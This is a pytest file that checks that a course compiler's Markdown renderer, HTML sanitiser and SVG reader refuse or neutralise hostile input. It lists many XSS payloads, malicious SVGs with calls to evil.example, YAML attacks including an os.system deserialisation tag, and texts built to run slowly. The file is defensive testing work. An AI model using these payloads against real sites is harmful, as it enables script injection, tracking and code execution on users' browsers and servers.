"""Hostile text: nothing runs, nothing calls another host, nothing takes long, and the author is told."""

from __future__ import annotations

import datetime
import html.parser
import re
import time

import pytest

from courses.core.compiler import compile_course, render_prose
from courses.core.compiler.images import read_picture
from courses.core.compiler.sanitise import sanitise
from courses.core.document import Compiled, Folder
from tests.core.golden import sample_files
from tests.core.lab_texts import RELIANCE

pytestmark = pytest.mark.core

DIGITS = "9" * 5000  # more than Python turns into a number
FRONT = "---\ntitle: First\nsummary: What.\nminutes: 8\nobjectives: [o1]\n---\n\n"
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<svg/onload="alert(1)">',
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<scr<b></b>ipt>alert(1)</scr<b></b>ipt>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](java&#115;cript:alert(1))",
    "[click me](&#x6A;avascript:alert(1))",
    "[click me]( javascript:alert(1))",
    "[click me](<javascript:alert(1)>)",
    "[click me](data:text/html,<script>alert(1)</script>)",
    "[click me](vbscript:msgbox)",
    "[click me](//evil.example/x)",
    "[click me](https:evil.example)",
    "[click me][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[click me](https://example.org" onmouseover="alert(1))',
    "![picture](https://evil.example/track.png)",
    "![picture](//evil.example/track.png)",
    "![picture](data:image/svg+xml;base64,PHN2Zy8+)",
    "![picture][x]\n\n[x]: https://evil.example/track.png",
    '![a" onerror="alert(1)](x.png)',
    '![a](x.png "b\\" onerror=\\"alert(1)")',
    "[![p](https://evil.example/a.png)](https://example.org)",
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
    "``` { .py src=x onclick=alert(1) }\nx\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "## <img src=x onerror=alert(1)>",
    "| <script> | b |\n| - | - |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> [!NOTE]\n> **<script>alert(1)</script>**\n> <img src=x onerror=alert(1)>",
    '# x {: onclick="alert(1)" style="x" id="location"}',
    "text {: .class onclick=alert(1)}",
    '[x](#"onclick=alert(1))',
    '<https://example.org/"onmouseover=alert(1)>',
    'https://example.org/"onmouseover=alert(1)',
]
ALLOWED = {
    "p": set(), "br": set(), "strong": set(), "em": set(), "del": set(), "code": set(), "pre": set(), "ul": set(),
    "ol": {"start"}, "li": set(), "blockquote": set(), "hr": set(), "h2": {"id"}, "h3": {"id"}, "h4": {"id"},
    "h5": {"id"}, "h6": {"id"}, "table": set(), "thead": set(), "tbody": set(), "tr": set(),
    "th": {"class", "scope"}, "td": {"class"}, "a": {"href", "rel", "class", "aria-label"},
    "img": {"src", "alt", "width", "height", "loading", "decoding"}, "sup": {"class"},
    "div": {"class", "role", "aria-label", "tabindex"}, "figure": {"class"}, "figcaption": set(),
    "details": set(), "summary": set(),
}  # fmt: skip


class _Watcher(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name not in (ALLOWED.get(tag, set()) | ({"class"} if tag == "p" else set())):
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and not re.match(r"https://|mailto:|#|/courses/", value or ""):
                self.faults.append(f"href={value}")
            if name == "src" and not re.fullmatch(r"/media/[0-9a-f]{64}\.(svg|png|jpg|webp)", value or ""):
                self.faults.append(f"src={value}")
            if name == "id" and not (value or "").startswith("u-"):
                self.faults.append(f"id={value}")
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")


def faults(page: str) -> list[str]:
    watcher = _Watcher()
    watcher.feed(page)
    watcher.close()
    return watcher.faults


def compiled(text: str, **files: bytes) -> Compiled:
    folder = Folder("sample", {**sample_files(), "01-unit.md": (FRONT + text).encode(), **files})
    return compile_course(folder, today=datetime.date(2026, 11, 21))


def everything(result: Compiled) -> str:
    """All HTML of a course in one string."""
    assert result.course is not None
    found: list[str] = []

    def walk(value: object) -> None:
        if isinstance(value, dict):
            for inner in value.values():
                walk(inner)
        elif isinstance(value, (list, tuple)):
            for inner in value:
                walk(inner)
        elif isinstance(value, str) and "<" in value:
            found.append(value)

    walk([result.course.structure, result.course.units, result.course.quizzes, dict(result.course.key)])
    return "\n".join(found)


@pytest.mark.parametrize("attack", ATTACKS)
def test_rendered_prose_holds_nothing_that_is_not_on_the_list(attack: str) -> None:
    for text in (attack, f"Before {attack} after", f"- {attack}\n  - {attack}", f"> {attack}"):
        assert faults(render_prose(text)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_course_with_hostile_prose_is_refused_or_harmless(attack: str) -> None:
    question = (
        "### Single choice `one`\n\nWhich? {0}\n\n- [x] This {0}\n  > Because {0}\n- [ ] That {0}x\n  > No {0}\n\n"
        "**Hint:** {0}\n\n**Explanation:** {0}\n"
    )
    one_line = attack.split("\n")[0]
    for text in (attack, f"Before {attack} after", question.replace("{0}", one_line)):
        result = compiled("## Start\n\n" + text)
        if result.course is None:
            assert any(problem.blocks and problem.file == "01-unit.md" for problem in result.problems)
        else:
            assert faults(everything(result)) == []


@pytest.mark.parametrize(
    "attack", ["<b>x</b>", "<img src=x onerror=alert(1)>", "<script>x</script>", "<!DOCTYPE html>"]
)
def test_author_html_is_refused_with_its_place(attack: str) -> None:
    problems = [problem for problem in compiled(f"Text.\n\nMore {attack} text.\n").problems if problem.code == "C015"]
    assert [(problem.line, problem.column) for problem in problems] == [(10, 6)]


@pytest.mark.parametrize("where", ["title", "summary"])
def test_titles_are_text_and_never_html(where: str) -> None:
    result = compiled("Text.\n")
    files = {**sample_files(), "01-unit.md": (FRONT + "Text.\n").replace(f"{where}: ", f"{where}: <b>x</b> ").encode()}
    result = compile_course(Folder("sample", files), today=datetime.date(2026, 11, 21))
    assert result.course is not None
    assert result.course.units[0][where].startswith("<b>x</b> ")  # type: ignore[literal-required]  # pages escape it


PATHOLOGICAL = {
    "numbered lists in one line": "1. " * 1000,
    "open brackets": "[" * 8000,
    "stars": "*" * 4000 + "a" + "*" * 4000,
    "stars in short runs": ("*" * 150 + "a" + "*" * 150 + "\n\n") * 600,
    "quotes": "> " * 3000 + "x",
    "quotes and lists": ">1. " * 60,
    "quotes that grow": "\n".join(">" * depth + " x" for depth in range(1, 300)),
    "footnotes": "[^1]" * 4000,
    "cdata": "<![CDATA[" * 4000,
    "divs": "<div markdown=1>" * 1000,
    "many divs": "<div>" * 39000,
    "links": "[a](b)" * 5000,
    "links in paragraphs": "[a](b)\n\n" * 20000,
    "half links": "[a](" * 40000,
    "images in brackets": "[" + "![a]" * 390 + "(",
    "back ticks": " ".join("`" * length for length in range(1, 400)),
    "comments": "<!-- a" * 30000,
    "scripts": "<script>" * 24000,
    "a wide table": "|a" * 4000 + "|\n" + "|-" * 4000 + "|\n" + ("|b" * 4000 + "|\n") * 10,
    "a long table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 30000,
    "rules": "---\n\n" * 39000,
    "fences": "```\na\n```\n\n" * 15000,
    "nested lists": "".join("  " * depth + "- a\n" for depth in range(300)),
    "spaces": "a" + " " * 190000 + "b",
    "line ends": "\n" * 190000,
    "nothing": "\0" * 190000,
    "addresses": "https://a.bc" * 15000,
    "callouts": "> [!NOTE]\n> a\n\n" * 11000,
    "a megabyte": "word " * 200000,
    "underscores": "_a " * 60000,
    "entities": "&#106;" * 30000,
    "headings": "## a `b`\n" * 20000,
    "questions": "### Number `a`\n\n- [x] 1\n\n" * 6000,
    "unknown anchors": "[a](#b) " * 380 + "\n\n",
    "settings": "### Number `a`\n" + "pionts: 2\n" * 11000,
}


@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_a_text_made_to_be_slow_is_answered_quickly(text: str) -> None:
    started = time.process_time()
    assert faults(render_prose(text)) == []
    result = compiled("## Start\n\n" + text)
    assert time.process_time() - started < 15
    assert result.course is not None or any(
        problem.file == "01-unit.md" and problem.blocks for problem in result.problems
    )


@pytest.mark.parametrize(
    ("name", "code"),
    [("open brackets", "C018"), ("numbered lists in one line", "C018"), ("a megabyte", "C019"), ("quotes", "C018")],
)
def test_the_author_is_told_what_is_too_much(name: str, code: str) -> None:
    problems = compiled("## Start\n\n" + PATHOLOGICAL[name]).problems
    assert [problem.code for problem in problems if problem.blocks] == [code]


def test_a_crash_of_the_renderer_becomes_a_problem(monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(*_: object) -> None:
        raise RecursionError

    monkeypatch.setattr("markdown.blockparser.BlockParser.parseDocument", crash)
    result = compiled("## Start\n\nText.\n\n- one\n")
    assert [(problem.code, problem.line) for problem in result.problems] == [("C022", 10)]
    assert result.course is None
    assert "too deeply nested" in render_prose("- one")


YAML_ATTACKS = [
    "a: &a [x]\nb: *a",
    "title: !!python/object/apply:os.system [id]",
    "? [complex]\n: key",
    "<<: {title: x}",
    "a: " + "[" * 2000,
    "a: " + "{a: " * 500,
    "\n".join(f"a{number}: &a{number} [*a{number - 1}, *a{number - 1}]" for number in range(1, 30)),
    "a: |\n  text\n b: x",
    "- a\n- b",
    "just text",
    "--- \na: b",
    "%YAML 1.1",
    "a: \x00",
    '"a',
]


@pytest.mark.parametrize("text", YAML_ATTACKS)
def test_hostile_front_matter_is_refused_quickly(text: str) -> None:
    started = time.process_time()
    files = {**sample_files(), "01-unit.md": f"---\ntitle: x\n{text}\n---\n\nText.\n".encode()}
    result = compile_course(Folder("sample", files), today=datetime.date(2026, 11, 21))
    assert result.course is None
    assert any(problem.file == "01-unit.md" and problem.blocks for problem in result.problems)
    assert time.process_time() - started < 10


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
BAD_SVGS = [
    "<script>alert(1)</script>",
    "<g onload='alert(1)'/>",
    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
    "<image href='https://evil.example/x.png'/>",
    "<image xlink:href='//evil.example/x.png'/>",
    "<use href='other.svg#a'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>@font-face {{ src: url(https://evil.example/f.woff) }}</style>",
    "<rect style='fill: url(https://evil.example/#a)'/>",
    "<rect fill='url( \"https://evil.example/#a\")'/>",
    "<animate attributeName='href' to='javascript:alert(1)'/>",
    "<set attributeName='xlink:href' to='javascript:alert(1)'/>",
    "<style>* {{ fill: u\\72l(https://evil.example) }}</style>",
]


@pytest.mark.parametrize("inner", BAD_SVGS)
def test_an_svg_that_does_more_than_show_is_refused(inner: str) -> None:
    data = SVG.format(inner).encode()
    problems = compiled("![A row of dots](images/bad.svg)\n", **{"images/bad.svg": data}).problems
    assert [problem.code for problem in problems if problem.file == "01-unit.md"] == ["C407"]


@pytest.mark.parametrize(
    "data",
    [
        b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        b'<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
)
def test_an_svg_with_entities_or_a_style_sheet_is_refused(data: bytes) -> None:
    picture = read_picture("svg", data)
    assert picture is not None
    assert picture.unsafe


@pytest.mark.parametrize(
    "style",
    [
        pytest.param("/*" + "x" * 120_000 + "*/@import 'https://evil.example/x.css';", id="far behind"),
        pytest.param("<g/>@import 'https://evil.example/x.css';", id="behind an element"),
        pytest.param("@imp<!-- -->ort 'https://evil.example/x.css';", id="round a comment"),
    ],
)
def test_an_address_in_a_style_is_found_wherever_it_stands(style: str) -> None:
    picture = read_picture("svg", SVG.format(f"<style>{style}</style>").encode())
    assert picture is not None
    assert picture.unsafe


def test_an_svg_in_another_encoding_is_not_read_beyond_its_entities() -> None:
    text = f'<!DOCTYPE svg [<!ENTITY a "{"A" * 9000}">]>' + SVG.format(
        f"<!--{'x' * 500_000}--><text>{'&a;' * 9000}</text>"
    )
    start = time.process_time()
    picture = read_picture("svg", text.encode("utf-16"))
    assert picture is not None
    assert picture.unsafe
    assert time.process_time() - start < 0.5  # 80 MB of text stand there otherwise


def test_an_svg_that_only_shows_is_accepted() -> None:
    inner = (
        "<style>.a {{ fill: url(#g); font-family: serif }}</style><defs><linearGradient id='g'/></defs>"
        "<use xlink:href='#g'/><rect style='fill: url( #g )' class='a'/><text>5 &lt; 6</text>"
    )
    picture = read_picture("svg", SVG.format(inner.replace("{{", "{").replace("}}", "}")).encode())
    assert picture is not None
    assert picture.unsafe == ""
    assert (picture.width, picture.height) == (9, 9)


@pytest.mark.parametrize("extension", ["svg", "png", "jpg", "webp"])
@pytest.mark.parametrize(
    "data", [b"", b"x", b"<html></html>", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe1", b"RIFF\0\0\0\0WEBP", b"<svg>"]
)
def test_what_is_no_picture_is_no_picture(extension: str, data: bytes) -> None:
    assert read_picture(extension, data) is None


def test_sanitising_twice_changes_nothing() -> None:
    for attack in ATTACKS:
        once = sanitise(render_prose(attack))
        assert sanitise(once) == once


def test_the_last_pass_alone_would_be_enough() -> None:
    for attack in ATTACKS:
        assert faults(sanitise(attack)) == []
    page = (
        '<p class="evil w" id="location" style="x">a<img src="https://evil.example/x.png"><a href="/logout">b</a></p>'
    )
    assert faults(sanitise(page)) == []


@pytest.mark.parametrize(
    "text",
    [
        f"### Multiple choice `many`\nchoose: {DIGITS}\n\nWhich?\n\n- [x] One\n- [x] Two\n- [ ] Three\n",
        RELIANCE.replace("`triage`\n", f"`triage`\ndraw: {DIGITS}\n"),
        f"## Quiz `final`\n\n### Pool `items`\ndraw: {DIGITS}\n\n#### Number `one`\n\nHow many?\n\n- [x] 1\n",
        f"### Number `one`\npoints: {DIGITS}\n\nHow many?\n\n- [x] {DIGITS}\n",
    ],
)
def test_thousands_of_digits_are_a_problem_and_no_crash(text: str) -> None:
    folder = Folder("sample", {**sample_files(), "01-unit.md": (FRONT + text).encode()})
    found = compile_course(folder, today=datetime.date(2026, 11, 21)).problems
    assert "C007" in [problem.code for problem in found]
